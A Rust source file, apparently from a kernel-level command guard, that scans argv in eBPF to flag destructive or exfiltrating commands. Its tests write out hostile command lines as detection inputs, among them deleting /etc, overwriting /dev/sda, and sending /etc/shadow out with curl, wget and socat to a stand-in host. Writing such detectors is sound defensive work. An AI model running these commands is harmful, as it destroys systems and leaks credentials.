//! The kernel's matcher: what the eBPF programs decide alone, from compiled tables.
//!
//! It is plain `no_std` code shared by the eBPF programs and the agent, so the agent can
//! report the kernel's own verdict (`guard-agent check`) and tests can run it without a
//! kernel. It never allocates, every loop is bounded and every index is masked, so the
//! verifier accepts it.
//!
//! argv is scanned one byte at a time ([`Scanner::step`], driven by `bpf_loop` in the
//! kernel). Each argument contributes:
//! - short-option letters (`-rf` → r, f) to a 62-bit set;
//! - keyword bits: the whole argument lower-cased (`--recursive`, `-delete`), the part
//!   before `=` (`--post-file=...`), and every word inside it (`DROP TABLE x` → drop,
//!   table), looked up by hash in the keyword table;
//! - path facts, for arguments that are absolute paths or carry one after `=` or `@`:
//!   the path is normalised on the fly (`//`, `/./`, trailing `/` and `..` handled by a
//!   stack of prefix hashes) and its prefixes are looked up in the path table.
//! A rule matches when each of its clauses finds one of its letters or keywords and,
//! if it names path facts, one of them was seen.

/// FNV-1a 64 offset basis; also the hash of the root path `/` (the empty prefix).
pub const FNV_BASIS: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0100_0000_01b3;

/// One FNV-1a step.
#[inline(always)]
pub const fn fnv(h: u64, b: u8) -> u64 {
    (h ^ b as u64).wrapping_mul(FNV_PRIME)
}

/// FNV-1a of a byte string, continuing from `h`.
pub const fn fnv_bytes(mut h: u64, bytes: &[u8]) -> u64 {
    let mut i = 0;
    while i < bytes.len() {
        h = fnv(h, bytes[i]);
        i += 1;
    }
    h
}

/// Hash of a binary's name (its basename, exact case).
pub const fn hash_name(name: &[u8]) -> u64 {
    fnv_bytes(FNV_BASIS, name)
}

/// Hash of a keyword (lower-case ASCII expected).
pub const fn hash_keyword(word: &[u8]) -> u64 {
    fnv_bytes(FNV_BASIS, word)
}

/// Hash of a normalised absolute path (`/` itself hashes to [`FNV_BASIS`]).
pub const fn hash_path(path: &[u8]) -> u64 {
    if path.len() == 1 && path[0] == b'/' { FNV_BASIS } else { fnv_bytes(FNV_BASIS, path) }
}

/// Path table bits (values of the compiled path map).
pub mod path_bit {
    /// The path is a protected path or one of its ancestors (or of a data directory).
    pub const ANCESTOR: u32 = 1 << 0;
    /// Paths at or below this one are inside a data directory.
    pub const DATA_PREFIX: u32 = 1 << 1;
    /// This exact path is a sensitive file.
    pub const SENSITIVE_FILE: u32 = 1 << 2;
    /// Paths at or below this one are sensitive.
    pub const SENSITIVE_PREFIX: u32 = 1 << 3;
    /// Paths at or below this one are logs or history.
    pub const LOG_PREFIX: u32 = 1 << 4;
    /// `/dev/<this>` is not a disk (null, zero, fd, pts, shm, ...).
    pub const DEV_SAFE: u32 = 1 << 5;
    /// Every direct child of this directory is protected (a policy's `/usr/*`).
    pub const CHILDREN: u32 = 1 << 6;
}

/// Facts a scan can find (`Scan::paths`, `KernelRule::path_need`).
pub mod fact {
    /// A path argument at or above a protected path.
    pub const AT_OR_ABOVE_PROTECTED: u32 = 1 << 0;
    /// A path argument inside (or at) a data directory.
    pub const IN_DATA_DIR: u32 = 1 << 1;
    /// A path argument that is a sensitive file or inside a sensitive directory.
    pub const SENSITIVE: u32 = 1 << 2;
    /// A path argument inside a log or history directory.
    pub const IN_LOG: u32 = 1 << 3;
    /// A path argument naming a disk under /dev.
    pub const BLOCK_DEVICE: u32 = 1 << 4;
    /// A disk given as an output (`of=/dev/sda`).
    pub const BLOCK_DEVICE_OUT: u32 = 1 << 5;
}

const HASH_DEV: u64 = hash_path(b"/dev");

/// socat address types that name a local file, lower-case.
const LOCAL_ADDRESSES: [u64; 4] = [hash_keyword(b"file"), hash_keyword(b"open"), hash_keyword(b"gopen"), hash_keyword(b"create")];

#[inline(always)]
fn is_local_address(tok_hash: u64) -> bool {
    tok_hash == LOCAL_ADDRESSES[0] || tok_hash == LOCAL_ADDRESSES[1] || tok_hash == LOCAL_ADDRESSES[2] || tok_hash == LOCAL_ADDRESSES[3]
}

/// `busybox rm -rf /` runs rm inside busybox: its rules are those of the applet, named
/// by the first argument.
pub const HASH_BUSYBOX: u64 = hash_name(b"busybox");

/// The name whose rules apply: the binary's, or for busybox the applet's.
#[inline(always)]
pub fn rule_key(binary: u64, scan: &Scan) -> u64 {
    if binary == HASH_BUSYBOX { scan.first_name } else { binary }
}

/// Words of the rules' presence filter (`RuleFilter`): 64 Kbit, so with a few hundred
/// binaries that have rules fewer than 1 % of other names pass it.
pub const RULE_FILTER_WORDS: usize = 1024;

/// One bit per key of the rules' table, set by the agent for every key it holds: a
/// name whose bit is clear has no rules, and the kernel is spared the hash-map lookup
/// (a bucket and an element line, cold at every exec). A set bit proves nothing; the
/// table decides.
#[repr(C)]
#[derive(Clone, Copy)]
pub struct RuleFilter {
    pub words: [u64; RULE_FILTER_WORDS],
}

impl RuleFilter {
    pub const EMPTY: Self = Self { words: [0; RULE_FILTER_WORDS] };

    /// The word and the bit of `key` (an FNV-1a hash, whose high bits are the best mixed).
    #[inline(always)]
    pub const fn slot(key: u64) -> (usize, u64) {
        ((key >> 54) as usize & (RULE_FILTER_WORDS - 1), 1 << ((key >> 48) & 63))
    }

    /// Whether `key` may be in the table.
    #[inline(always)]
    pub fn may_hold(&self, key: u64) -> bool {
        let (word, bit) = Self::slot(key);
        self.words[word & (RULE_FILTER_WORDS - 1)] & bit != 0
    }

    pub fn insert(&mut self, key: u64) {
        let (word, bit) = Self::slot(key);
        self.words[word] |= bit;
    }
}

/// Depth of the path prefix stack: deeper components are not tracked.
pub const PATH_DEPTH: usize = 16;
const DEPTH_MASK: usize = PATH_DEPTH - 1;

/// Lookups the scanner needs; map lookups in the kernel, hash maps in the agent.
pub trait Tables {
    /// Keyword bits for a lower-cased word hash (0 when not a keyword).
    fn keyword(&self, hash: u64) -> u64;
    /// Path bits for a normalised path hash (0 when unknown).
    fn path(&self, hash: u64) -> u32;
}

/// What a scan found. Plain integers so it can live in kernel memory.
#[repr(C)]
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Scan {
    pub letters: u64,
    pub keywords: u64,
    pub paths: u32,
    /// Arguments scanned (after argv[0], or after the script's path).
    pub args: u32,
    pub _pad: u32,
    /// Basename hash (exact case) of the first argument scanned (busybox's applet).
    pub first_name: u64,
}

// Token flags.
const T_DASH: u32 = 1 << 0;
const T_LONG: u32 = 1 << 1;
const T_EQ: u32 = 1 << 2;
const T_PATH: u32 = 1 << 3;
const T_PATH_NEXT: u32 = 1 << 4;
const T_OF: u32 = 1 << 5;
const T_AT: u32 = 1 << 6;
const T_NOT_OPT: u32 = 1 << 7;

/// Streaming state of a scan over a NUL-separated argv blob.
#[repr(C)]
#[derive(Clone, Copy, Debug)]
pub struct Scanner {
    pub scan: Scan,
    stack: [u64; PATH_DEPTH],
    /// Path bits of every prefix up to each depth, OR-ed (valid across `..` pops).
    prefix_bits: [u32; PATH_DEPTH],
    tok_hash: u64,
    exact_hash: u64,
    word_hash: u64,
    cur: u64,
    /// Exact hash of the argument to skip through (the script path after a `#!`
    /// interpreter); 0 skips argv[0] only.
    skip_through: u64,
    depth: u32,
    tok_len: u32,
    word_len: u32,
    comp_len: u32,
    comp_dots: u32,
    flags: u32,
    skipping: u32,
    /// The byte being fed, kept in memory (see [`Scanner::fresh`]).
    byte: u32,
}

impl Scanner {
    /// A scanner that skips argv[0], or (for a `#!` script) every argument up to and
    /// including the one equal to the script's path, whose exact hash is `skip_through`.
    pub const fn new(skip_through: u64) -> Self {
        Self {
            scan: Scan { letters: 0, keywords: 0, paths: 0, args: 0, _pad: 0, first_name: FNV_BASIS },
            stack: [FNV_BASIS; PATH_DEPTH],
            prefix_bits: [0; PATH_DEPTH],
            tok_hash: FNV_BASIS,
            exact_hash: FNV_BASIS,
            word_hash: FNV_BASIS,
            cur: FNV_BASIS,
            skip_through,
            depth: 0,
            tok_len: 0,
            word_len: 0,
            comp_len: 0,
            comp_dots: 0,
            flags: 0,
            skipping: 1,
            byte: 0,
        }
    }

    /// Puts the scanner in the state [`Scanner::new`] gives, in place: every word
    /// zeroed, then the path stack and the fields that start at the FNV basis set. For
    /// the eBPF target a whole-struct assignment compiles to calls of a byte-by-byte
    /// `memset` subprogram (~400 instructions for the zero runs of this struct, every
    /// judged exec).
    #[inline(always)]
    pub fn reset(&mut self, skip_through: u64) {
        const WORDS: usize = size_of::<Scanner>() / 8;
        const _: () = assert!(size_of::<Scanner>() % 8 == 0 && align_of::<Scanner>() == 8);
        let words = (&raw mut *self).cast::<u64>();
        let stack = self.stack.as_mut_ptr();
        // SAFETY: every index is within the struct (plain integers, so all-zero is a
        // valid value) or within `stack`; volatile keeps the compiler from turning the
        // loops back into memset calls.
        unsafe {
            let mut i = 0;
            while i < WORDS {
                core::ptr::write_volatile(words.add(i), 0);
                i += 1;
            }
            let mut i = 0;
            while i < PATH_DEPTH {
                core::ptr::write_volatile(stack.add(i), FNV_BASIS);
                i += 1;
            }
        }
        self.scan.first_name = FNV_BASIS;
        self.tok_hash = FNV_BASIS;
        self.exact_hash = FNV_BASIS;
        self.word_hash = FNV_BASIS;
        self.cur = FNV_BASIS;
        self.skip_through = skip_through;
        self.skipping = 1;
    }

    /// Reads a field through memory. Every branch condition reads its inputs this way:
    /// a value kept in a register stays refined by each comparison (`b == b'/'`,
    /// `tok_len == 0`) and the kernel's verifier cannot merge the paths that follow, so
    /// it explores every combination. Re-read values are unknown again at each test.
    #[inline(always)]
    fn fresh<V: Copy>(field: &V) -> V {
        // SAFETY: a reference to a field of self.
        unsafe { core::ptr::read_volatile(field) }
    }

    #[inline(always)]
    fn b(&self) -> u8 {
        Self::fresh(&self.byte) as u8
    }

    #[inline(always)]
    fn set(field: &mut u32, value: u32) {
        // SAFETY: a reference to a field of self.
        unsafe { core::ptr::write_volatile(field, value) };
    }

    #[inline(always)]
    fn add_flags(&mut self, bits: u32) {
        let v = Self::fresh(&self.flags) | bits;
        Self::set(&mut self.flags, v);
    }

    #[inline(always)]
    fn has(&self, bits: u32) -> bool {
        Self::fresh(&self.flags) & bits != 0
    }

    #[inline(always)]
    fn tok_len(&self) -> u32 {
        Self::fresh(&self.tok_len)
    }

    /// Feeds one byte of the argv blob (arguments separated by NUL).
    #[inline(always)]
    pub fn step<T: Tables>(&mut self, b: u8, t: &T) {
        Self::set(&mut self.byte, u32::from(b));
        if b == 0 {
            self.end_arg(t);
            return;
        }
        self.exact_hash = fnv(self.exact_hash, b);
        if self.skipping != 0 {
            return;
        }
        if self.scan.args == 0 {
            self.scan.first_name = if b == b'/' { FNV_BASIS } else { fnv(self.scan.first_name, b) };
        }
        self.option_byte(t);
        let lower = self.b().to_ascii_lowercase();
        self.tok_hash = fnv(self.tok_hash, lower);
        self.path_byte(t);
        let lower = self.b().to_ascii_lowercase();
        if lower.is_ascii_alphanumeric() || lower == b'_' {
            self.word_hash = fnv(self.word_hash, lower);
            self.word_len += 1;
        } else {
            self.end_word(t);
        }
        self.tok_len += 1;
    }

    /// Ends the blob: a last argument without its NUL still counts.
    pub fn finish<T: Tables>(&mut self, t: &T) -> Scan {
        if self.tok_len > 0 || self.exact_hash != FNV_BASIS {
            self.end_arg(t);
        }
        self.scan
    }

    #[inline(always)]
    fn option_byte<T: Tables>(&mut self, t: &T) {
        if self.tok_len() == 0 {
            match self.b() {
                b'-' => self.add_flags(T_DASH),
                b'@' => self.add_flags(T_AT),
                b'/' => self.start_path(t),
                _ => self.add_flags(T_NOT_OPT),
            }
        } else if self.tok_len() == 1 && self.b() == b'-' && self.has(T_DASH) {
            self.add_flags(T_LONG);
        } else if self.tok_len() == 1 && self.b() == b'/' && self.has(T_AT) {
            self.start_path(t);
        }
        if self.tok_len() == 2 && self.b() == b'=' && self.has(T_NOT_OPT) && self.tok_hash == fnv(fnv(FNV_BASIS, b'o'), b'f') {
            self.add_flags(T_OF);
        }
        if self.has(T_PATH_NEXT) {
            let v = Self::fresh(&self.flags) & !T_PATH_NEXT;
            Self::set(&mut self.flags, v);
            if self.b() == b'/' {
                self.start_path(t);
            } else if self.b() == b'@' {
                // `name=@/path` (curl -F): the path comes after the `@`.
                self.add_flags(T_PATH_NEXT);
            }
        }
        // socat's local addresses (`FILE:/etc/shadow`, `OPEN:`, `GOPEN:`, `CREATE:`): the
        // path comes after the `:`. Only these words: `host:/path` (scp, rsync) is remote.
        if self.b() == b':' && self.has(T_NOT_OPT) && !self.has(T_EQ) && is_local_address(self.tok_hash) {
            self.add_flags(T_EQ | T_PATH_NEXT);
        }
        if self.b() == b'=' && !self.has(T_EQ) {
            self.add_flags(T_EQ | T_PATH_NEXT);
            self.scan.keywords |= t.keyword(self.tok_hash);
        }
        let short = Self::fresh(&self.flags) & (T_DASH | T_LONG | T_EQ) == T_DASH;
        if short && self.tok_len() > 0 && self.b().is_ascii_alphanumeric() {
            self.scan.letters |= 1u64 << letter_bit(self.b());
        }
    }

    #[inline(always)]
    fn start_path<T: Tables>(&mut self, t: &T) {
        self.add_flags(T_PATH);
        self.depth = 0;
        self.prefix_bits[0] = t.path(FNV_BASIS);
        self.begin_component();
    }

    #[inline(always)]
    fn begin_component(&mut self) {
        self.cur = fnv(self.stack[self.depth as usize & DEPTH_MASK], b'/');
        self.comp_len = 0;
        self.comp_dots = 0;
    }

    #[inline(always)]
    fn path_byte<T: Tables>(&mut self, t: &T) {
        if !self.has(T_PATH) {
            return;
        }
        if self.b() == b'/' {
            if self.tok_len() > 0 || self.has(T_AT | T_EQ) {
                self.end_component(t);
            }
            return;
        }
        self.cur = fnv(self.cur, self.b());
        self.comp_len += 1;
        if self.b() == b'.' {
            self.comp_dots += 1;
        }
    }

    #[inline(always)]
    fn end_component<T: Tables>(&mut self, t: &T) {
        let dots_only = self.comp_dots == self.comp_len;
        if self.comp_len == 0 || (dots_only && self.comp_len == 1) {
            // empty (`//`, leading or trailing `/`) or `.`: nothing to add
        } else if dots_only && self.comp_len == 2 {
            self.depth = self.depth.saturating_sub(1);
        } else if (self.depth as usize) < DEPTH_MASK {
            let parent = self.prefix_bits[self.depth as usize & DEPTH_MASK];
            self.depth += 1;
            let d = self.depth as usize & DEPTH_MASK;
            self.stack[d] = self.cur;
            self.prefix_bits[d] = parent | t.path(self.cur);
        }
        self.begin_component();
    }

    #[inline(always)]
    fn end_word<T: Tables>(&mut self, t: &T) {
        if self.word_len > 0 {
            self.scan.keywords |= t.keyword(self.word_hash);
        }
        self.word_hash = FNV_BASIS;
        self.word_len = 0;
    }

    fn end_arg<T: Tables>(&mut self, t: &T) {
        if self.skipping != 0 {
            if self.skip_through == 0 || self.exact_hash == self.skip_through {
                self.skipping = 0;
            }
        } else {
            self.end_word(t);
            if self.has(T_PATH) {
                self.end_component(t);
                self.path_facts(t);
            }
            if self.tok_len > 0 {
                self.scan.keywords |= t.keyword(self.tok_hash);
            }
            self.scan.args += 1;
        }
        self.tok_hash = FNV_BASIS;
        self.exact_hash = FNV_BASIS;
        self.tok_len = 0;
        self.flags = 0;
        self.depth = 0;
    }

    /// Facts about the finished path. Branch-free where it can be: bit positions of
    /// `path_bit` and `fact` line up so shifts translate one into the other, which keeps
    /// the verifier from splitting its state on every bit.
    fn path_facts<T: Tables>(&mut self, t: &T) {
        let depth = self.depth as usize & DEPTH_MASK;
        let full = t.path(self.stack[depth]);
        let prefix = self.prefix_bits[depth];
        // The parent's bits: at depth 0 (`/` itself) that is `/` again, which is at or
        // above everything protected anyway. The depth is read afresh so the mask stays
        // in the code: derived from `depth` above, the compiler knows the index is in
        // bounds and drops it, and the 6.1 verifier cannot see that (it refuses the
        // unbounded map-value offset).
        let parent_depth = (Self::fresh(&self.depth) as usize).saturating_sub(1) & DEPTH_MASK;
        let parent = t.path(self.stack[parent_depth]);
        self.scan.paths |= (full & path_bit::ANCESTOR)
            | ((parent & path_bit::CHILDREN) >> 6)
            | (prefix & path_bit::DATA_PREFIX)
            | (full & path_bit::SENSITIVE_FILE)
            | ((prefix & path_bit::SENSITIVE_PREFIX) >> 1)
            | ((prefix & path_bit::LOG_PREFIX) >> 1);
        if depth >= 2 && self.stack[1] == HASH_DEV && t.path(self.stack[2]) & path_bit::DEV_SAFE == 0 {
            self.scan.paths |= fact::BLOCK_DEVICE;
            if self.has(T_OF) {
                self.scan.paths |= fact::BLOCK_DEVICE_OUT;
            }
        }
    }
}

// The shifts in `path_facts` rely on these positions.
const _: () = assert!(path_bit::ANCESTOR == fact::AT_OR_ABOVE_PROTECTED);
const _: () = assert!(path_bit::CHILDREN >> 6 == fact::AT_OR_ABOVE_PROTECTED);
const _: () = assert!(path_bit::DATA_PREFIX == fact::IN_DATA_DIR);
const _: () = assert!(path_bit::SENSITIVE_FILE == fact::SENSITIVE);
const _: () = assert!(path_bit::SENSITIVE_PREFIX >> 1 == fact::SENSITIVE);
const _: () = assert!(path_bit::LOG_PREFIX >> 1 == fact::IN_LOG);

/// Bit of a short-option letter: a-z → 0..26, A-Z → 26..52, 0-9 → 52..62.
pub const fn letter_bit(b: u8) -> u32 {
    match b {
        b'a'..=b'z' => (b - b'a') as u32,
        b'A'..=b'Z' => 26 + (b - b'A') as u32,
        b'0'..=b'9' => 52 + (b - b'0') as u32,
        _ => 63,
    }
}

/// Letters as a mask, for building rules: `letters(b"rR")`.
pub const fn letters(set: &[u8]) -> u64 {
    let mut m = 0u64;
    let mut i = 0;
    while i < set.len() {
        m |= 1u64 << letter_bit(set[i]);
        i += 1;
    }
    m
}

/// One clause: satisfied when any of its letters or keywords was seen. A clause with
/// neither is unused (always satisfied).
#[repr(C)]
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Clause {
    pub letters: u64,
    pub keywords: u64,
}

/// Clauses per rule.
pub const CLAUSES: usize = 3;
/// Rules per binary.
pub const RULES_PER_BINARY: usize = 8;

/// A signature the kernel decides alone.
#[repr(C)]
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct KernelRule {
    pub clauses: [Clause; CLAUSES],
    /// Facts of which at least one must be seen (0: no path condition).
    pub path_need: u32,
    /// Index into the agent's rule table, reported with the decision.
    pub rule_id: u16,
    /// Intent class (`guard_common::intent`).
    pub class: u8,
    /// `enforce::rule_kind`.
    pub kind: u8,
}

/// The rules for one binary name (value of the rules map, keyed by [`hash_name`]).
#[repr(C)]
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct RuleSet {
    pub count: u32,
    pub _pad: u32,
    pub rules: [KernelRule; RULES_PER_BINARY],
}

impl KernelRule {
    /// Whether the scan satisfies every clause and the path condition.
    #[inline(always)]
    pub fn matches(&self, s: &Scan) -> bool {
        let mut i = 0;
        while i < CLAUSES {
            let c = &self.clauses[i];
            let used = c.letters | c.keywords != 0;
            if used && s.letters & c.letters == 0 && s.keywords & c.keywords == 0 {
                return false;
            }
            i += 1;
        }
        self.path_need == 0 || s.paths & self.path_need != 0
    }
}

impl RuleSet {
    /// The first matching rule.
    #[inline(always)]
    pub fn first_match(&self, s: &Scan) -> Option<&KernelRule> {
        let mut i = 0;
        while i < RULES_PER_BINARY {
            if i as u32 >= self.count {
                return None;
            }
            let rule = &self.rules[i];
            if rule.matches(s) {
                return Some(rule);
            }
            i += 1;
        }
        None
    }
}

const _: () = assert!(size_of::<KernelRule>() == 56);
const _: () = assert!(size_of::<RuleSet>() == 8 + 56 * RULES_PER_BINARY);
const _: () = assert!(size_of::<Scanner>() % 8 == 0);

/// Scans a whole argv blob (user space; the kernel drives [`Scanner::step`] itself).
pub fn scan_blob<T: Tables>(blob: &[u8], skip_through: u64, t: &T) -> Scan {
    let mut s = Scanner::new(skip_through);
    for &b in blob {
        s.step(b, t);
    }
    s.finish(t)
}

/// The basename of a path (bytes after the last `/`).
pub fn basename(path: &[u8]) -> &[u8] {
    match path.iter().rposition(|&b| b == b'/') {
        Some(i) => &path[i + 1..],
        None => path,
    }
}

#[cfg(test)]
mod tests {
    extern crate std;
    use std::{collections::HashMap, vec::Vec};

    use super::*;

    struct Map {
        keywords: HashMap<u64, u64>,
        paths: HashMap<u64, u32>,
    }

    impl Tables for Map {
        fn keyword(&self, h: u64) -> u64 {
            self.keywords.get(&h).copied().unwrap_or(0)
        }
        fn path(&self, h: u64) -> u32 {
            self.paths.get(&h).copied().unwrap_or(0)
        }
    }

    const KW_RECURSIVE: u64 = 1 << 0;
    const KW_DROP: u64 = 1 << 1;
    const KW_POST_FILE: u64 = 1 << 2;
    const KW_DELETE: u64 = 1 << 3;

    fn tables() -> Map {
        let mut paths = HashMap::new();
        let mut mark = |p: &[u8], bit| *paths.entry(hash_path(p)).or_insert(0) |= bit;
        for p in [&b"/"[..], b"/etc", b"/var", b"/var/lib", b"/var/lib/postgresql"] {
            mark(p, path_bit::ANCESTOR);
        }
        mark(b"/var/lib/postgresql", path_bit::DATA_PREFIX);
        mark(b"/etc/shadow", path_bit::SENSITIVE_FILE);
        mark(b"/var/log", path_bit::LOG_PREFIX);
        mark(b"/dev/null", path_bit::DEV_SAFE);
        mark(b"/dev/zero", path_bit::DEV_SAFE);
        let keywords = [
            (&b"--recursive"[..], KW_RECURSIVE),
            (b"drop", KW_DROP),
            (b"--post-file", KW_POST_FILE),
            (b"-delete", KW_DELETE),
        ]
        .into_iter()
        .map(|(w, b)| (hash_keyword(w), b))
        .collect();
        Map { keywords, paths }
    }

    fn scan(args: &[&str]) -> Scan {
        let blob: Vec<u8> = args.iter().flat_map(|a| a.bytes().chain([0])).collect();
        scan_blob(&blob, 0, &tables())
    }

    /// The kernel resets its per-CPU scanner in place between execs: a reset scanner
    /// must be the fresh one, whatever the scan before it left behind.
    #[test]
    fn a_reset_scanner_is_a_new_one() {
        let t = tables();
        let blob: Vec<u8> = ["rm", "-rf", "/etc/../var/lib/", "--no-preserve-root"].iter().flat_map(|a| a.bytes().chain([0])).collect();
        let mut used = Scanner::new(0);
        for &b in &blob[..blob.len() - 5] {
            used.step(b, &t);
        }
        used.reset(42);
        assert_eq!(std::format!("{used:?}"), std::format!("{:?}", Scanner::new(42)));
        let mut again = used;
        let mut fresh = Scanner::new(42);
        for &b in &blob {
            again.step(b, &t);
            fresh.step(b, &t);
        }
        assert_eq!(again.finish(&t), fresh.finish(&t));
    }

    #[test]
    fn short_flags_in_any_bundle_and_order() {
        let r = letters(b"r");
        for argv in [&["rm", "-rf", "/x"][..], &["rm", "-fr", "/x"], &["rm", "-r", "-f", "/x"], &["rm", "-vrf", "/x"]] {
            assert_ne!(scan(argv).letters & r, 0, "{argv:?}");
        }
        assert_eq!(scan(&["rm", "-f", "/x"]).letters & r, 0);
        assert_ne!(scan(&["rm", "--recursive", "/x"]).keywords & KW_RECURSIVE, 0);
        assert_eq!(scan(&["rm", "--force", "/x"]).letters, 0, "long options add no letters");
    }

    #[test]
    fn paths_are_normalised_before_lookup() {
        for p in ["/", "//", "/etc", "/etc/", "//etc//", "/./etc/.", "/tmp/../etc", "/var/lib/../lib/postgresql/"] {
            assert_ne!(scan(&["rm", p]).paths & fact::AT_OR_ABOVE_PROTECTED, 0, "{p}");
        }
        for p in ["/tmp/build", "/etc/nginx/sites", "/etcetera", "relative/etc", "/var/lib/postgresql/../../tmp"] {
            assert_eq!(scan(&["rm", p]).paths & fact::AT_OR_ABOVE_PROTECTED, 0, "{p}");
        }
    }

    #[test]
    fn data_directories_cover_everything_below() {
        assert_ne!(scan(&["rm", "/var/lib/postgresql/15/main"]).paths & fact::IN_DATA_DIR, 0);
        assert_eq!(scan(&["rm", "/var/lib/docker"]).paths & fact::IN_DATA_DIR, 0);
    }

    #[test]
    fn devices_inputs_and_outputs() {
        let s = scan(&["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"]);
        assert_ne!(s.paths & fact::BLOCK_DEVICE_OUT, 0);
        let s = scan(&["dd", "if=/dev/sda", "of=/tmp/disk.img"]);
        assert_ne!(s.paths & fact::BLOCK_DEVICE, 0, "reading a disk is still a device argument");
        assert_eq!(s.paths & fact::BLOCK_DEVICE_OUT, 0, "but not an output");
        assert_eq!(scan(&["dd", "if=/dev/zero", "of=/dev/null"]).paths, 0);
        assert_ne!(scan(&["wipefs", "-a", "/dev/nvme0n1"]).paths & fact::BLOCK_DEVICE, 0);
    }

    #[test]
    fn sensitive_files_after_at_and_equals() {
        assert_ne!(scan(&["curl", "--data-binary", "@/etc/shadow", "http://x"]).paths & fact::SENSITIVE, 0);
        let s = scan(&["wget", "--post-file=/etc/shadow", "http://x"]);
        assert_ne!(s.paths & fact::SENSITIVE, 0);
        assert_ne!(s.keywords & KW_POST_FILE, 0, "the option name before = is a keyword");
    }

    #[test]
    fn socat_local_addresses_carry_paths_and_remote_ones_do_not() {
        for a in ["FILE:/etc/shadow", "open:/etc/shadow", "GOPEN:/etc//shadow", "create:/etc/shadow"] {
            assert_ne!(scan(&["socat", a, "TCP:203.0.113.3:4444"]).paths & fact::SENSITIVE, 0, "{a}");
        }
        for a in ["host:/etc/shadow", "TCP:/etc/shadow", "files:/etc/shadow", "-:/etc/shadow", "x=file:/etc/shadow"] {
            assert_eq!(scan(&["scp", a, "."]).paths & fact::SENSITIVE, 0, "{a}");
        }
    }

    #[test]
    fn words_inside_arguments_are_keywords() {
        assert_ne!(scan(&["psql", "-c", "DROP TABLE users;"]).keywords & KW_DROP, 0);
        assert_ne!(scan(&["psql", "-c", "select 1;drop table x"]).keywords & KW_DROP, 0);
        assert_eq!(scan(&["psql", "-c", "SELECT dropped FROM t"]).keywords & KW_DROP, 0);
        assert_ne!(scan(&["find", "/", "-DELETE"]).keywords & KW_DELETE, 0, "case-insensitive");
    }

    #[test]
    fn argv0_and_script_prefix_are_skipped() {
        assert_eq!(scan(&["/etc"]).paths, 0, "argv[0] is not an argument");
        let blob = b"/usr/bin/python3\0/usr/local/bin/aws\0/etc\0";
        let s = scan_blob(blob, hash_name(b"/usr/local/bin/aws"), &tables());
        assert_eq!((s.args, s.paths), (1, fact::AT_OR_ABOVE_PROTECTED));
    }

    #[test]
    fn busybox_rules_are_the_applets() {
        let s = scan(&["busybox", "/bin/rm", "-rf", "/etc"]);
        assert_eq!(rule_key(HASH_BUSYBOX, &s), hash_name(b"rm"));
        assert_eq!(rule_key(hash_name(b"rm"), &s), hash_name(b"rm"));
    }

    #[test]
    fn a_last_argument_without_nul_counts() {
        let s = scan_blob(b"rm\0-rf\0/etc", 0, &tables());
        assert_eq!(s.args, 2);
        assert_ne!(s.paths & fact::AT_OR_ABOVE_PROTECTED, 0);
    }

    #[test]
    fn rules_need_every_clause_and_a_path_fact() {
        let mut rule = KernelRule { path_need: fact::AT_OR_ABOVE_PROTECTED, ..KernelRule::default() };
        rule.clauses[0] = Clause { letters: letters(b"rR"), keywords: KW_RECURSIVE };
        assert!(rule.matches(&scan(&["rm", "-rf", "/etc"])));
        assert!(rule.matches(&scan(&["rm", "--recursive", "//etc/"])));
        assert!(!rule.matches(&scan(&["rm", "-f", "/etc"])));
        assert!(!rule.matches(&scan(&["rm", "-rf", "/tmp/x"])));
        let set = RuleSet { count: 1, _pad: 0, rules: [rule; RULES_PER_BINARY] };
        assert!(set.first_match(&scan(&["rm", "-rf", "/"])).is_some());
        let empty = RuleSet { count: 0, ..set };
        assert!(empty.first_match(&scan(&["rm", "-rf", "/"])).is_none());
    }

    #[test]
    fn hostile_bytes_never_panic() {
        let t = tables();
        let mut seed = 0x2545_f491_4f6c_dd1d_u64;
        for _ in 0..200 {
            let blob: Vec<u8> = (0..997)
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    [b'/', b'.', b'-', b'=', b'@', 0, b'a', b'/'][(seed % 8) as usize]
                })
                .collect();
            let _ = scan_blob(&blob, 0, &t);
        }
    }
}
